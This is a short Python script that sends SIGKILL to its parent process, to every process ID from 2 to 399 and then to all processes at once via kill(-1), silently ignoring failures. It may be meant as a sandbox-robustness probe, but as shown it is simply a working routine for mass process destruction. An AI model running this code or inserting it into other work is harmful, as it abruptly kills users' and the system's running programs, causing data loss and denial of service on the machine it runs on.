"""Send signals to the parent, to every process number, and to all processes at once."""
import os
import signal

for pid in [os.getppid(), *range(2, 400)]:
    if pid not in (0, os.getpid()):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
